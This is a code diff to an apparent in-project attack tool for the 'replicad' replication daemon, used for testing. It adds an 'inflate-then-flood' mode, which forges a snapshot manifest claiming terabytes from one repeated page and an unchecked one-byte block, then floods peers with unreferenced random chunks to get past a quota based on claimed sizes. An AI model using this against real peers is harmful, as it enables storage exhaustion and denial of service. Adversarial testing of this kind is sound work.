@@ -14,6 +14,10 @@ Modes:
   root differs from the real snapshot of the same ``(volume, epoch, seq)``.
 * ``chunk-flood``: ``--mib`` MiB of random, unreferenced chunks streamed to each target
   under ``--volume``/``--epoch``, without any snapshot ever naming them.
+* ``inflate-then-flood``: first announce, at ``--seq``, a manifest claiming a volume of
+  ``--claim-gib`` GiB (one page repeated, so it costs nothing to ship) with block size
+  ``--block-size``, then flood as ``chunk-flood`` does: a budget taken from sizes the
+  sender claims would let the flood through.
 """
 
 from __future__ import annotations
@@ -30,7 +34,7 @@ import aiohttp
 
 from replicad.config import load_config
 from replicad.core.errors import ReplicadError
-from replicad.core.manifest import Manifest, iter_block_digests, pages_from_digests
+from replicad.core.manifest import PAGE_ENTRIES, Manifest, iter_block_digests, pages_from_digests
 from replicad.peer.tls import client_context
 from replicad.peer.transport import PeerClient
 from replicad.storage.chunkstore import ChunkStore
@@ -70,8 +74,18 @@ async def _run(args: argparse.Namespace) -> list[dict]:
                     except ReplicadError as err:
                         result["error"] = err.code
                     out.append(result)
-            elif args.mode == "chunk-flood":
-                result = {"target": site.site_id, "sent_chunks": 0}
+            elif args.mode == "inflate-then-flood":
+                m, block = _inflated(args.volume, args.epoch, args.seq[0], args.block_size, args.claim_gib, store)
+                result = {"target": site.site_id, "seq": args.seq[0]}
+                try:
+                    await client.send_chunks(url, args.volume, args.epoch, store, [m.root, m.pages[0], block])
+                    result["announced"] = await client.snapshot_stored(url, args.volume, args.epoch, args.seq[0],
+                                                                       m.root)
+                except ReplicadError as err:
+                    result["announce_error"] = err.code
+                out.append(result)
+            if args.mode in ("chunk-flood", "inflate-then-flood"):
+                result = {"target": site.site_id, "sent_chunks": 0, "flood": True}
                 chunk = 1 << 20
                 for i in range(args.mib):
                     digests = store.put_blocks([os.urandom(args.block_size) for _ in range(chunk // args.block_size)])
@@ -85,6 +99,20 @@ async def _run(args: argparse.Namespace) -> list[dict]:
     return out
 
 
+def _inflated(volume: str, epoch: int, seq: int, block_size: int, claim_gib: int,
+              store: ChunkStore) -> tuple[Manifest, bytes]:
+    """A manifest claiming ``claim_gib`` GiB whose every block is the same stored block; and that block's digest."""
+    (digest,) = store.put_blocks([os.urandom(1)])  # its length is never checked before an apply
+    n_blocks = claim_gib * 2**30 // block_size
+    (page,) = pages_from_digests([digest] * PAGE_ENTRIES)
+    (page_digest,) = store.put_blocks([page])
+    m = Manifest(volume=volume, seq=seq, epoch=epoch, parent_seq=None, created_at_ns=0,
+                 size_bytes=n_blocks * block_size, block_size=block_size,
+                 pages=(page_digest,) * (-(-n_blocks // PAGE_ENTRIES)), stats={})
+    store.put_blocks([m.encode()])
+    return m, digest
+
+
 def _block_digests(m: Manifest, store: ChunkStore) -> list[bytes]:
     return list(iter_block_digests(m, store.get))
 
@@ -92,7 +120,8 @@ def _block_digests(m: Manifest, store: ChunkStore) -> list[bytes]:
 def main(argv: list[str] | None = None) -> int:
     """Parse ``argv`` and run the attack; prints one JSON document per line of results."""
     p = argparse.ArgumentParser(prog="peer_attacker")
-    p.add_argument("mode", choices=("forge-manifests", "chunk-flood"))
+    p.add_argument("mode", choices=("forge-manifests", "chunk-flood", "inflate-then-flood"))
+    p.add_argument("--claim-gib", type=int, default=4096)
     p.add_argument("--config", required=True)
     p.add_argument("--volume", required=True)
     p.add_argument("--epoch", type=int, required=True)
